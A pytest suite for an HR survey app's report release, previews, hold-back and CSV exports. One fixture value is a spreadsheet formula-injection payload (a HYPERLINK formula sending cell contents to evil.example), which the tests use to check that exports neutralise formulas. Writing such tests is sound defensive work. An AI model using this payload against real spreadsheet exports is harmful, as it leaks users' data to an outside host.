"""Release in the HR console: scores, the preview as the participant sees it, release to
all, and the CSV exports."""

from __future__ import annotations

import csv
import io
import re
from types import SimpleNamespace

import pytest
from markupsafe import escape
from sqlalchemy import select

from surveys import cycles, exports, releases
from surveys.errors import DomainError
from surveys.models import AccessToken, Cycle, CycleState, OutboxMessage, Participant, Response
from surveys.scores_csv import SCORES_COLUMNS
from surveys.tokens import hash_token
from tests import factories as f
from tests.surveys.test_reports import build_cycle
from tests.webapp.console import audit_events, csrf_token, detached_cycle, preview_url, sign_in
from tests.webapp.test_reports import pdf_text
from webapp import cycle_scores, jobs
from webapp.admin import release as release_views
from webapp.extensions import db

COMMENT = "Distinctive peer comment 0d4c"
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def _build(app, *, close=True, peers_answering=3, rename=None):
    """Two participants; member 1 answered by self, manager and peers (one comment each)."""
    with app.app_context():
        cycle, participant = build_cycle(
            db.session, participants=2, peers_answering=peers_answering, comments={"peer": COMMENT}
        )
        if rename:
            participant.employee.name = rename
        if close:
            cycles.close_cycle(db.session, cycle)
        db.session.commit()
        other = next(p for p in cycle.participants if p.id != participant.id)
        return SimpleNamespace(
            id=cycle.id,
            participant=SimpleNamespace(
                id=participant.id, cycle_id=cycle.id, name=participant.employee.name
            ),
            other=SimpleNamespace(id=other.id, cycle_id=cycle.id, name=other.employee.name),
        )


@pytest.fixture
def closed(app):
    return _build(app)


def _state(app, cycle_id) -> CycleState:
    with app.app_context():
        return db.session.get(Cycle, cycle_id).state


def _report_links(app) -> dict[int, str]:
    """participant id -> raw report token, read back from the outbox."""
    with app.app_context():
        found = {}
        for raw in f.links(db.session, "r"):
            token = db.session.scalar(
                select(AccessToken).where(AccessToken.token_hash == hash_token(raw))
            )
            found[token.participant_id] = raw
        return found


VERSION = re.compile(r'<p class="version">.*?</p>')


def _without_version(text: str) -> str:
    return "\n".join(
        line for line in text.splitlines() if not line.startswith(("Version ", "Preview: "))
    )


def _release(client, cycle_id):
    return client.post(f"/admin/cycles/{cycle_id}/release", data={"confirm": "y"})


# -- the release page -----------------------------------------------------------------------


def test_release_page_lists_participants_counts_and_shown_groups(app, client, closed):
    sign_in(app, client)
    response = client.get(f"/admin/cycles/{closed.id}/release")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    row = page.split(closed.participant.name, 1)[1].split("</tr>")[0]
    assert "<td>4 of 4</td>" in row  # manager and three peers; self is not counted here
    assert "<td>yes</td>" in row
    assert "Manager (1), Peers (3), All others (4)" in row
    assert f'href="{preview_url(closed.participant)}"' in row
    assert f'href="{preview_url(closed.participant, pdf=True)}"' in row
    quiet = page.split(closed.other.name, 1)[1].split("</tr>")[0]
    assert "<td>0 of 4</td>" in quiet
    assert "<td>none</td>" in quiet
    assert "Release to all 2 participants" in page
    assert COMMENT not in page


def test_release_page_says_which_groups_are_folded_away(app, client):
    data = _build(app, peers_answering=2)
    sign_in(app, client)
    page = client.get(f"/admin/cycles/{data.id}/release").get_data(as_text=True)
    row = page.split(data.participant.name, 1)[1].split("</tr>")[0]
    assert "Peers: not shown (fewer than 3 responses)" in row  # All others is hidden too
    assert "Peers (" not in row


def test_release_page_needs_a_closed_cycle(app, client):
    data = _build(app, close=False)
    sign_in(app, client)
    assert client.get(f"/admin/cycles/{data.id}/release").status_code == 403
    assert _release(client, data.id).status_code == 403
    assert _state(app, data.id) == CycleState.OPEN


# -- preview --------------------------------------------------------------------------------


def test_preview_is_exactly_what_the_participant_link_shows(app, client, closed):
    sign_in(app, client)
    before = client.get(preview_url(closed.participant))
    assert before.status_code == 200
    assert before.headers["Cache-Control"] == "no-store"
    assert before.headers["Referrer-Policy"] == "no-referrer"
    preview = before.get_data(as_text=True)
    preview_pdf = client.get(preview_url(closed.participant, pdf=True))
    assert preview_pdf.mimetype == "application/pdf"

    assert _release(client, closed.id).status_code == 302
    token = _report_links(app)[closed.participant.id]
    seen = client.get(f"/r/{token}").get_data(as_text=True)
    pdf_link = f"/r/{token}/report.pdf"
    # Identical but for the PDF link and the line that says which version this is.
    assert (
        VERSION.search(preview).group(0) == '<p class="version">Preview: not a released version</p>'
    )
    assert VERSION.sub(
        "", preview.replace(preview_url(closed.participant, pdf=True), pdf_link)
    ) == (VERSION.sub("", seen))
    released_pdf = pdf_text(client.get(pdf_link).data)
    assert "Version 1" in released_pdf
    assert _without_version(pdf_text(preview_pdf.data)) == _without_version(released_pdf)

    # After release the preview shows the frozen version, still identical.
    after = client.get(preview_url(closed.participant)).get_data(as_text=True)
    assert after == seen.replace(pdf_link, preview_url(closed.participant, pdf=True))


def test_no_preview_while_the_cycle_is_open(app, client):
    """Two previews around one rater's submission would show what that rater said."""
    data = _build(app, close=False)
    sign_in(app, client)
    assert client.get(preview_url(data.participant)).status_code == 404


def test_preview_is_audited_and_scoped_to_its_cycle(app, client, closed):
    sign_in(app, client)
    assert client.get(preview_url(closed.participant)).status_code == 200
    (event,) = audit_events(app, "report.preview")
    assert event.detail == {"participant": "T1"}
    with app.app_context():
        _, team = f.team(db.session, 3, prefix="U")
        elsewhere = f.launched(db.session, team).id
    wrong = f"/admin/cycles/{elsewhere}/participants/{closed.participant.id}/report"
    assert client.get(wrong).status_code == 404
    assert client.get(f"/admin/cycles/{closed.id}/participants/999999/report").status_code == 404


def test_the_old_development_preview_is_gone(app, client, closed):
    app.config["DEV_PAGES"] = True
    assert client.get(f"/reports/preview/{closed.participant.id}").status_code == 404


def test_signed_out_visitors_get_the_login_page(app, client, closed):
    for method, url in [
        ("get", f"/admin/cycles/{closed.id}/release"),
        ("post", f"/admin/cycles/{closed.id}/release"),
        ("get", preview_url(closed.participant)),
        ("get", preview_url(closed.participant, pdf=True)),
        ("post", f"/admin/cycles/{closed.id}/export/response-rates.csv"),
        ("post", f"/admin/cycles/{closed.id}/export/scores.csv"),
    ]:
        response = getattr(client, method)(url, data={"confirm": "y"})
        assert response.status_code == 302, url
        assert response.headers["Location"].startswith("/admin/login"), url
    assert _state(app, closed.id) == CycleState.CLOSED


def test_the_release_page_builds_one_page_of_reports_at_a_time(app, client, closed, monkeypatch):
    monkeypatch.setattr(release_views, "RELEASE_PAGE_SIZE", 1)
    built = []
    real_build = release_views.build_report
    monkeypatch.setattr(
        release_views,
        "build_report",
        lambda session, p, **kw: built.append(p.id) or real_build(session, p, **kw),
    )
    sign_in(app, client)
    first, second = sorted([closed.participant, closed.other], key=lambda p: p.name)
    page = client.get(f"/admin/cycles/{closed.id}/release").get_data(as_text=True)
    assert built == [first.id]
    assert first.name in page
    assert second.name not in page
    assert "(1–1 of 2)" in page
    assert "Page 1 of 2" in page
    assert "Release to all 2 participants" in page  # the whole cycle, not the page
    # Past the end: the last page.
    page = client.get(f"/admin/cycles/{closed.id}/release?page=99").get_data(as_text=True)
    assert built == [first.id, second.id]
    assert second.name in page
    assert first.name not in page
    assert "Page 2 of 2" in page


def test_a_closed_cycle_is_scored_once_for_its_pages_previews_and_export(
    app, client, closed, monkeypatch
):
    cycle_scores.forget()
    calls = []
    real_score = cycle_scores.score_cycle
    monkeypatch.setattr(
        cycle_scores,
        "score_cycle",
        lambda session, c: calls.append(c.id) or real_score(session, c),
    )
    sign_in(app, client)
    first = client.get(f"/admin/cycles/{closed.id}/release").get_data(as_text=True)
    client.get(f"/admin/cycles/{closed.id}/release?page=1")
    assert client.get(preview_url(closed.participant)).status_code == 200
    export = client.post(f"/admin/cycles/{closed.id}/export/scores.csv")
    assert export.status_code == 200
    assert len(_rows(export)) > 1
    assert calls == [closed.id]
    # Answers that change (here: one response removed behind the app's back) are rescored.
    with app.app_context():
        db.session.delete(
            db.session.scalars(
                select(Response).where(
                    Response.participant_id == closed.participant.id,
                    Response.relationship == "peer",
                )
            ).first()
        )
        db.session.commit()
    second = client.get(f"/admin/cycles/{closed.id}/release").get_data(as_text=True)
    assert calls == [closed.id, closed.id]
    assert "Peers (3)" in first
    assert "Peers (3)" not in second


# -- release to all -------------------------------------------------------------------------


def _report_emails(app) -> list[str]:
    with app.app_context():
        return list(
            db.session.scalars(
                select(OutboxMessage.to_address).where(OutboxMessage.kind == "report")
            )
        )


def test_release_needs_the_confirmation_box(app, client, closed):
    sign_in(app, client)
    response = client.post(f"/admin/cycles/{closed.id}/release", data={})
    assert response.status_code == 422
    assert "Tick the box to confirm the release." in response.get_data(as_text=True)
    assert _state(app, closed.id) == CycleState.CLOSED
    assert _report_emails(app) == []
    assert audit_events(app, "cycle.release") == []


def test_release_to_all_emails_every_participant_a_report_link(app, client, closed):
    sign_in(app, client)
    response = client.post(
        f"/admin/cycles/{closed.id}/release", data={"confirm": "y"}, follow_redirects=True
    )
    page = response.get_data(as_text=True)
    assert "Released 2 reports; 2 emails with report links queued." in page
    assert "version 1" in page
    assert _state(app, closed.id) == CycleState.RELEASED
    assert sorted(_report_emails(app)) == ["t1@example.com", "t2@example.com"]
    assert set(_report_links(app)) == {closed.participant.id, closed.other.id}
    (event,) = audit_events(app, "cycle.release")
    assert event.detail == {"reports": 2, "emails": 2, "held": 0}
    # Released once: the form is gone and a second post is refused without side effects.
    assert "Release to all" not in page
    again = _release(client, closed.id)
    assert again.status_code == 422
    assert len(_report_emails(app)) == 2


#: The release job itself, run as a worker would (the ``queued`` fixture replaces the
#: queueing call).
run_release_job = jobs.release_reports.call_local


@pytest.fixture
def queued(monkeypatch):
    """Release jobs queued instead of run inline (as with a real queue): their arguments."""
    calls: list[tuple[int, int]] = []
    monkeypatch.setattr(jobs, "release_reports", lambda *args: calls.append(args))
    return calls


def test_a_queued_release_shows_its_progress_and_runs_once(app, client, closed, queued):
    sign_in(app, client)
    response = _release(client, closed.id)
    assert response.status_code == 302
    page = client.get(response.location).get_data(as_text=True)
    assert "Releasing 2 reports in the background." in page
    assert "Releasing the reports" in page
    assert "Release to all" not in page  # no second button while it runs
    assert _state(app, closed.id) == CycleState.CLOSED
    assert detached_cycle(app, closed.id).release_started_at is not None
    # A second post (another tab) does not queue the release twice: it shows the progress.
    again = _release(client, closed.id)
    assert again.status_code == 422
    assert "Releasing the reports" in again.get_data(as_text=True)
    ((cycle_id, user_id),) = queued
    assert cycle_id == closed.id

    with app.app_context():
        assert run_release_job(cycle_id, user_id) == {"reports": 2, "emails": 2, "held": 0}
        # Delivered twice, the job releases once.
        assert run_release_job(cycle_id, user_id) == {"reports": 0}
    assert _state(app, closed.id) == CycleState.RELEASED
    assert detached_cycle(app, closed.id).release_started_at is None
    assert sorted(_report_emails(app)) == ["t1@example.com", "t2@example.com"]
    (event,) = audit_events(app, "cycle.release")
    assert (event.actor, event.detail) == ("hr@example.com", {"reports": 2, "emails": 2, "held": 0})
    page = client.get(f"/admin/cycles/{closed.id}/release").get_data(as_text=True)
    assert "Released reports" in page
    assert "version 1" in page


def test_a_release_whose_worker_died_can_be_started_again(app, client, closed, queued):
    sign_in(app, client)
    _release(client, closed.id)
    with app.app_context():
        cycle = db.session.get(Cycle, closed.id)
        cycle.release_started_at -= releases.RELEASE_STALE_AFTER
        db.session.commit()
    page = client.get(f"/admin/cycles/{closed.id}/release").get_data(as_text=True)
    assert "Releasing the reports" not in page
    assert "Release to all 2 participants" in page
    assert _release(client, closed.id).status_code == 302
    assert len(queued) == 2


@pytest.mark.parametrize(
    ("error", "message"),
    [
        (DomainError("the bank changed"), "Nothing was released: the bank changed."),
        (RuntimeError("disk full"), jobs.RELEASE_FAILED),
    ],
)
def test_a_failed_release_keeps_nothing_and_says_so(
    app, client, closed, queued, monkeypatch, error, message
):
    sign_in(app, client)
    _release(client, closed.id)
    ((cycle_id, user_id),) = queued

    def fail_midway(session, cycle, **kwargs):
        cycle.pseudonym_key = None  # a change the rollback must undo
        session.flush()
        raise error

    monkeypatch.setattr(releases, "release_cycle", fail_midway)
    with app.app_context():
        if isinstance(error, DomainError):
            assert run_release_job(cycle_id, user_id) == {"reports": 0}
        else:
            with pytest.raises(RuntimeError, match="disk full"):
                run_release_job(cycle_id, user_id)
    cycle = detached_cycle(app, closed.id)
    assert (cycle.state, cycle.release_started_at) == (CycleState.CLOSED, None)
    assert cycle.pseudonym_key is not None
    assert cycle.release_error == message
    assert audit_events(app, "cycle.release") == []
    page = client.get(f"/admin/cycles/{closed.id}/release").get_data(as_text=True)
    assert str(escape(message)) in page
    assert "Release to all 2 participants" in page  # HR can try again


def test_a_release_the_queue_could_not_take_is_undone(app, client, closed, monkeypatch):
    def queue_down(*args):
        raise ConnectionError("redis is down")

    monkeypatch.setattr(jobs, "release_reports", queue_down)
    sign_in(app, client)
    response = _release(client, closed.id)
    assert response.status_code == 302
    cycle = detached_cycle(app, closed.id)
    assert (cycle.state, cycle.release_started_at) == (CycleState.CLOSED, None)
    page = client.get(response.location).get_data(as_text=True)
    assert "could not be started (the job queue did not answer)" in page
    assert "Release to all 2 participants" in page


def test_release_needs_a_csrf_token(app, client, closed):
    app.config["WTF_CSRF_ENABLED"] = True
    sign_in(app, client)
    assert _release(client, closed.id).status_code == 400
    assert _state(app, closed.id) == CycleState.CLOSED
    token = csrf_token(client.get(f"/admin/cycles/{closed.id}/release").get_data(as_text=True))
    response = client.post(
        f"/admin/cycles/{closed.id}/release", data={"confirm": "y", "csrf_token": token}
    )
    assert response.status_code == 302
    assert _state(app, closed.id) == CycleState.RELEASED


def _row(page: str, name: str) -> str:
    """The release page's table row of the participant called ``name``."""
    return page.split(f'tabindex="-1">{escape(name)}', 1)[1].split("</tr>")[0]


def test_a_report_held_back_at_release_is_sent_from_the_release_page(app, client, closed):
    sign_in(app, client)
    hold = f"/admin/cycles/{closed.id}/participants/{closed.participant.id}/hold"
    page = client.post(hold, data={"held": "1"}, follow_redirects=True).get_data(as_text=True)
    assert f"{escape(closed.participant.name)}&#39;s report will be frozen with the others" in page
    row = _row(page, closed.participant.name)
    assert "Held back at release." in row
    assert "Send with the others" in row
    assert "1 of the 2 reports is held back" in page
    assert "Release to all 2 participants (1 held back)" in page

    page = _release(client, closed.id).headers["Location"]
    page = client.get(page).get_data(as_text=True)
    assert client.post(hold, data={"held": "1"}).location.endswith(
        f"#p-{closed.participant.id}"
    )  # back at the participant's row, even when refused
    assert "Released 2 reports; 1 email with report links queued. 1 report held back" in page
    assert _report_emails(app) == ["t2@example.com"]
    assert set(_report_links(app)) == {closed.other.id}
    row = _row(page, closed.participant.name)
    assert "Held back: not sent yet." in row
    assert "version 1" in row  # frozen with the others
    assert "Hold back" not in page  # too late to hold anything back
    (event,) = audit_events(app, "cycle.release")
    assert event.detail == {"reports": 2, "emails": 1, "held": 1}

    share = f"/admin/cycles/{closed.id}/participants/{closed.participant.id}/share"
    page = client.post(share, follow_redirects=True).get_data(as_text=True)
    assert "report link is queued" in page
    assert sorted(_report_emails(app)) == ["t1@example.com", "t2@example.com"]
    assert set(_report_links(app)) == {closed.participant.id, closed.other.id}
    assert "Held back" not in page
    again = client.post(share, follow_redirects=True).get_data(as_text=True)
    assert "already been sent" in again
    assert len(_report_emails(app)) == 2
    assert len(audit_events(app, "report.hold")) == len(audit_events(app, "report.share")) == 1
    late = client.post(hold, data={"held": "1"}, follow_redirects=True).get_data(as_text=True)
    assert "are released; a held report is sent by sharing it" in late


def test_hold_back_can_be_undone_and_needs_csrf_and_a_participant(app, client, closed):
    sign_in(app, client)
    hold = f"/admin/cycles/{closed.id}/participants/{closed.participant.id}/hold"
    client.post(hold, data={"held": "1"})
    page = client.post(hold, data={"held": "0"}, follow_redirects=True).get_data(as_text=True)
    assert "report will be sent with the others" in page
    row = _row(page, closed.participant.name)
    assert "Held back" not in row
    assert "Hold back" in row
    assert "held back: frozen now" not in page
    assert len(audit_events(app, "report.unhold")) == 1
    nobody = f"/admin/cycles/{closed.id}/participants/9999/hold"
    assert client.post(nobody, data={"held": "1"}).status_code == 404
    app.config["WTF_CSRF_ENABLED"] = True
    assert client.post(hold, data={"held": "1"}).status_code == 400
    _release(client, closed.id)  # no CSRF token: refused too
    with app.app_context():
        assert not db.session.get(Participant, closed.participant.id).report_held


# -- exports --------------------------------------------------------------------------------


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_exports_are_counts_and_scores_only_with_formulas_neutralised(app, client):
    data = _build(app, rename=EVIL_NAME)
    sign_in(app, client)
    rates = client.post(f"/admin/cycles/{data.id}/export/response-rates.csv")
    assert rates.status_code == 200
    assert rates.mimetype == "text/csv"
    assert "attachment" in rates.headers["Content-Disposition"]
    table = _rows(rates)
    assert table[0] == [
        "employee_id",
        "participant",
        "relationship",
        "invited",
        "responded",
        "rate",
    ]
    names = {r[1] for r in table[1:]}
    assert names == {"'" + EVIL_NAME, data.other.name}
    text = rates.get_data(as_text=True)
    for rater in ("T Boss", "T Member 3", "T Member 4", "@example.com", COMMENT):
        assert rater not in text

    scores = client.post(f"/admin/cycles/{data.id}/export/scores.csv")
    assert scores.status_code == 200
    table = _rows(scores)
    assert tuple(table[0]) == SCORES_COLUMNS
    assert {r[0] for r in table[1:]} == {"T1"}
    text = scores.get_data(as_text=True)
    for rater in ("T Boss", "T Member", "@example.com", COMMENT, EVIL_NAME):
        assert rater not in text

    assert [e.action for e in audit_events(app, "export.response_rates")] == [
        "export.response_rates"
    ]
    assert len(audit_events(app, "export.scores")) == 1


def test_scores_export_is_streamed_a_piece_at_a_time(app, client, monkeypatch):
    """The header goes out before the cycle is scored; the rows follow in pieces of
    CSV_CHUNK_PARTICIPANTS participants, the same file as in one piece."""
    data = _build(app)
    sign_in(app, client)
    whole = client.post(f"/admin/cycles/{data.id}/export/scores.csv").get_data(as_text=True)
    monkeypatch.setattr(exports, "CSV_CHUNK_PARTICIPANTS", 1)
    cycle_scores.forget()
    scored = []
    real_score = cycle_scores.score_cycle
    monkeypatch.setattr(
        cycle_scores, "score_cycle", lambda s, c: scored.append(c.id) or real_score(s, c)
    )
    response = client.post(f"/admin/cycles/{data.id}/export/scores.csv", buffered=False)
    assert response.is_streamed
    pieces = response.iter_encoded()
    assert next(pieces).decode() == ",".join(SCORES_COLUMNS) + "\n"
    assert scored == []  # nothing read yet
    rest = [piece.decode() for piece in pieces]
    response.close()
    assert scored == [data.id]
    assert len(rest) == 1  # one participant was rated, the other's piece has no rows
    assert ",".join(SCORES_COLUMNS) + "\n" + "".join(rest) == whole


def test_scores_export_refused_while_the_cycle_is_open(app, client):
    data = _build(app, close=False)
    sign_in(app, client)
    assert client.post(f"/admin/cycles/{data.id}/export/scores.csv").status_code == 403
    assert client.post(f"/admin/cycles/{data.id}/export/response-rates.csv").status_code == 200
    assert audit_events(app, "export.scores") == []


def test_exports_need_a_csrf_token(app, client, closed):
    app.config["WTF_CSRF_ENABLED"] = True
    sign_in(app, client)
    assert client.post(f"/admin/cycles/{closed.id}/export/scores.csv").status_code == 400
    assert audit_events(app, "export.scores") == []


def test_two_requests_at_once_score_a_closed_cycle_once(app, closed, monkeypatch):
    """Scoring a large cycle takes seconds: a second request waits for the first's."""
    import threading
    import time

    from surveys.models import Cycle

    cycle_scores.forget()
    calls = []
    real_score = cycle_scores.score_cycle

    def slow(session, c):
        calls.append(c.id)
        time.sleep(0.3)
        return real_score(session, c)

    monkeypatch.setattr(cycle_scores, "score_cycle", slow)
    results = []

    def request():
        with app.app_context():
            found = db.session.get(Cycle, closed.id)
            results.append(cycle_scores.closed_cycle_scores(db.session, found))

    threads = [threading.Thread(target=request) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert calls == [closed.id]
    assert results[0] is results[1]
